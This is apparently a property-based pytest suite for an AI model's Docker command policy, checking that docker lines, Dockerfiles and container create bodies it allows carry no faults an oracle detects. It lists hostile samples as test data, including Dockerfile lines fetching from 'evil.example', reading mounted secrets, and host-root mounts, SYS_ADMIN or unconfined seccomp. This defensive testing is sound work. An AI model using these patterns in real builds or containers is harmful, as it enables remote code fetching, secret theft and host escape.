"""The policy beside an oracle that knows nothing of it: no verdict is too lenient for its request."""

from __future__ import annotations

import json
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from assistant.commands.flags import COMMANDS, RUN
from assistant.commands.policy import Policy, check_body
from assistant.commands.policy_values import PROFILES
from assistant.commands.review import review
from assistant.config import Limits
from assistant.values import Decision
from tests.hostile import hostile_bodies, hostile_lines, put_over
from tests.oracle import faults_of_request

LIMITS = Limits()
POLICIES = [Policy.shipped(profile) for profile in PROFILES]
STEADY = settings(
    max_examples=300,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)

_FLAGS = [f"--{name}" for name in RUN.flags] + [f"-{flag.short}" for flag in RUN.flags.values() if flag.short]
_WORDS_OF_VALUES = """
host container:a ALL SYS_ADMIN CHOWN /:/h ./data:/b ./data:/b:ro .:/w data:/d 80:80 0.0.0.0:1:2
[::]:1:2 A=1 A type=bind,src=./data,dst=/h type=tmpfs,dst=/dev/x
type=volume,dst=/x,volume-opt=o=bind type=bind,src=/etc,dst=/e seccomp=unconfined none
no-new-privileges no-new-privileges=false systempaths=unconfined bridge name=host 1g -1 0 true false
always on-failure:3 syslog json-file local max-size=1m max-file=3 syslog-address=udp://1.2.3.4:5
/dev/sda /x:size=1m /proc /proc/self/fd/7 private shareable a:127.0.0.1 a:host-gateway 1000 all
linux/amd64 nofile=1:2 docknotes-1 {network} docknotes.owner=x web 64m 0.5 net.ipv4.ip_forward=1
runc 512 ./out:/x .. ~ - ./Dockerfile a b:1
"""
_VALUES = _WORDS_OF_VALUES.split()
_WORDS_OF_FIT = """
--rm -d -it --name=web -e=A=1 --memory=1g --memory=99g --memory-swap=-1 --cpus=1 --pids-limit=50
--pids-limit=-1 -p=80:80 -p=0.0.0.0:1:2 -p=[::1]:1:2 -P -v=./data:/b -v=./data:/b:ro -v=.:/w
-v=.:/w:ro -v=data:/d -v=/anonymous -v=./data/sub:/s --mount=type=bind,src=./data,dst=/m
--mount=type=tmpfs,dst=/t --mount=type=volume,src=v,dst=/v --tmpfs=/x:size=1m --network=none
--network=bridge --network=default --restart=no --restart=always --restart=on-failure:2
--cap-drop=ALL --cap-add=CHOWN --cap-add=CAP_KILL --read-only --init --user=1000 -u=0 -w=/w -w=/
--hostname=h --label=a=b --log-driver=local --log-driver=none --log-opt=max-size=1m --shm-size=1m
--shm-size=9g --ulimit=nofile=10:20 --security-opt=no-new-privileges --ipc=private --ipc=none
--cgroupns=private --gpus=all --add-host=db:10.0.0.9 --dns=1.1.1.1 --entrypoint=sh --stop-timeout=9
--platform=linux/amd64 --pull=never --privileged=false --expose=80 --group-add=7 --env-file=./ok.env
--annotation=a=b --oom-kill-disable=false --health-cmd=true --no-healthcheck
"""
_FIT = _WORDS_OF_FIT.split()


@pytest.fixture(scope="module")
def ground() -> Iterator[Path]:
    """A workspace with folders and a link out of it."""
    with tempfile.TemporaryDirectory() as folder:
        workspace = Path(folder).resolve() / "ws"
        (workspace / "data" / "sub").mkdir(parents=True)
        (workspace / "out").symlink_to("/etc")
        (workspace / "Dockerfile").write_text("FROM busybox\n", encoding="utf-8")
        yield workspace


def not_more_lenient(line: str, workspace: Path) -> None:
    """For each profile: whatever is not refused holds nothing the oracle finds fault with."""
    for policy in POLICIES:
        verdict = review(line, policy=policy, limits=LIMITS, workspace=workspace, now=0.0)
        if verdict.decision is Decision.REFUSE:
            continue
        assert verdict.plan is not None
        for request in verdict.plan.operations:
            if request.sent == "by docker":
                continue
            faults = faults_of_request(request.method, request.path, request.query, request.as_run, workspace)
            assert faults == [], (policy.profile, line, request.path)
            assert request.method == "GET" or verdict.decision is Decision.ASK or policy.profile == "open"


@STEADY
@given(
    st.lists(st.tuples(st.sampled_from(_FLAGS), st.sampled_from(_VALUES)), max_size=4),
    st.sampled_from(["=", " "]),
    st.sampled_from(["run", "create", "container run", "container create"]),
)
def test_any_flags_of_run_and_create(
    ground: Path, flags: list[tuple[str, str]], joint: str, name: str
) -> None:
    words = " ".join(f"{flag}{joint}{value}" for flag, value in flags)
    not_more_lenient(f"docker {name} {words} ubuntu ls", ground)


@STEADY
@given(
    st.sampled_from(sorted(" ".join(name) for name in COMMANDS)),
    st.lists(st.one_of(st.sampled_from(_VALUES), st.sampled_from(_FLAGS)), max_size=5),
)
def test_any_words_of_any_command(ground: Path, name: str, words: list[str]) -> None:
    not_more_lenient(f"docker {name} {' '.join(words)}", ground)


@STEADY
@given(
    st.lists(st.sampled_from(_FIT), max_size=6, unique=True),
    st.lists(st.sampled_from(_FIT + [f"{flag}={value}" for flag in _FLAGS for value in _VALUES]), max_size=1),
    st.sampled_from(["run", "create", "container run"]),
)
def test_flags_that_are_taken_with_one_that_may_not_be(
    ground: Path, fitting: list[str], other: list[str], name: str
) -> None:
    words = " ".join([*fitting, *other])
    not_more_lenient(f"docker {name} {words} ubuntu ls", ground)


def test_most_of_those_flags_are_taken_so_that_there_is_something_to_look_at(ground: Path) -> None:
    (ground / "ok.env").write_text("A=1\n", encoding="utf-8")
    refused = []
    for flag in _FIT:
        line = f"docker run {flag} ubuntu ls"
        verdict = review(line, policy=POLICIES[0], limits=LIMITS, workspace=ground, now=0.0)
        if verdict.decision is Decision.REFUSE:
            refused.append(flag)
    assert len(refused) < len(_FIT) / 4, refused


_LINES = [line for _, line in hostile_lines() if line.startswith("docker ")]


@STEADY
@given(st.sampled_from(_LINES), st.sampled_from(_LINES), st.randoms(use_true_random=False))
def test_parts_of_two_hostile_lines(ground: Path, one: str, other: str, random: Any) -> None:
    words = one.split(" ")[2:] + other.split(" ")[2:]
    kept = [word for word in words if random.random() < 0.7]
    not_more_lenient(f"docker run {' '.join(kept)}".replace("{ws}", str(ground)), ground)


def test_hostile_lines_are_refused_or_harmless(ground: Path) -> None:
    for _, line in hostile_lines():
        not_more_lenient(line.replace("{ws}", str(ground)), ground)


# ---- builds -----------------------------------------------------------------------------------

_GOOD = [
    "RUN true",
    "COPY data /d",
    "ENV A=1",
    "# a comment",
    "",
    "WORKDIR /w",
    'CMD ["sh"]',
    "ARG B",
    "USER 1",
]
_EVIL = [
    "ADD https://evil.example/x /x", "add HTTP://evil.example/x /x", "ADD git@github.com:evil/x.git /x",
    "ADD --checksum=sha256:0 https://evil.example/x /x", 'ADD ["https://evil.example/x", "/x"]',
    "RUN --network=host id", "RUN --security=insecure id", "RUN --mount=type=secret,id=x cat /run/secrets/x",
    "RUN --mount=type=ssh id", "FROM 127.0.0.1:5000/x", "FROM localhost/x AS b", "from 192.168.0.9/x",
    "COPY --from=127.0.0.1:5000/x /a /a", "ONBUILD ADD https://evil.example/x /x",
    "ADD \\\n  https://evil.example/x \\\n  /x", "FROM evil.example/x",
]  # fmt: skip


@STEADY
@given(
    st.lists(st.sampled_from(_GOOD), max_size=4),
    st.lists(st.sampled_from(_EVIL), max_size=1),
    st.lists(st.sampled_from(_GOOD), max_size=3),
    st.sampled_from(["\n", "\r\n"]),
    st.sampled_from(["", "# syntax=evil.example/frontend", "#syntax = docker/dockerfile:1-labs"]),
)
def test_any_dockerfile(  # noqa: PLR0917 - the parts of one file
    ground: Path, before: list[str], evil: list[str], after: list[str], end: str, syntax: str
) -> None:
    lines = [*([syntax] if syntax else []), "FROM busybox", *before, *evil, *after]
    (ground / "Dockerfile").write_bytes(end.join(lines).encode())
    for policy in POLICIES:
        verdict = review("docker build -t x .", policy=policy, limits=LIMITS, workspace=ground, now=0.0)
        if evil or syntax.startswith("# syntax=evil"):
            assert verdict.decision is Decision.REFUSE, lines
    not_more_lenient("docker build -t x .", ground)


def test_a_good_dockerfile_is_not_refused(ground: Path) -> None:
    (ground / "Dockerfile").write_text("\n".join(["FROM busybox", *_GOOD]), encoding="utf-8")
    for policy in POLICIES:
        verdict = review("docker build -t x .", policy=policy, limits=LIMITS, workspace=ground, now=0.0)
        assert verdict.decision is Decision.ASK, verdict.reasons


# ---- bodies -----------------------------------------------------------------------------------


def base(workspace: Path, policy: Policy) -> dict[str, Any]:
    """A create body as it is sent, with nothing against it."""
    line = "docker run -p 8080:80 -v data:/d ubuntu ls"
    verdict = review(line, policy=policy, limits=LIMITS, workspace=workspace, now=0.0)
    assert verdict.plan is not None
    body = next(op.as_run for op in verdict.plan.operations if op.path == "/containers/create")
    text = json.dumps(body).replace("{network}", "docknotes-1").replace("{run}", "1")
    return json.loads(text)  # type: ignore[no-any-return]


def faults(body: Any, workspace: Path) -> list[str]:
    return faults_of_request("POST", "/containers/create", {}, body, workspace)


_SPELLINGS = st.sampled_from([str, str.lower, str.upper, str.swapcase])
_JSON: st.SearchStrategy[Any] = st.recursive(
    st.none() | st.booleans() | st.integers(-2, 3) | st.sampled_from(_VALUES) | st.text(max_size=4),
    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(st.text(max_size=6), inner, max_size=2),
    max_leaves=4,
)
_CHANGES = [change for _, change in hostile_bodies()]
_KEYS = sorted(
    {key for change in _CHANGES for key in (change.get("HostConfig") or {}) if isinstance(key, str)}
)


@STEADY
@given(
    st.lists(st.tuples(st.sampled_from(_KEYS), _SPELLINGS, _JSON), min_size=1, max_size=3),
    st.lists(st.sampled_from(_CHANGES), max_size=1),
    st.sampled_from(POLICIES),
)
def test_any_change_of_a_final_body(
    ground: Path, changes: list[tuple[str, Any, Any]], hostile: list[dict[str, Any]], policy: Policy
) -> None:
    body = base(ground, policy)
    for change in hostile:
        body = put_over(body, change, ground)
    host = body.get("HostConfig")
    if isinstance(host, dict):
        host.update({spelt(key): value for key, spelt, value in changes})
    if not check_body(body, policy, ground, LIMITS):
        assert faults(body, ground) == [], changes


def test_the_oracle_finds_most_of_the_hostile_bodies_and_nothing_in_a_good_one(ground: Path) -> None:
    """That it is worth asking: it has eyes of its own, and is content with what the policy makes."""
    for policy in POLICIES:
        assert faults(base(ground, policy), ground) == []
    body = base(ground, POLICIES[0])
    found = [change for change in _CHANGES if faults(put_over(body, change, ground), ground)]
    assert len(found) >= 120
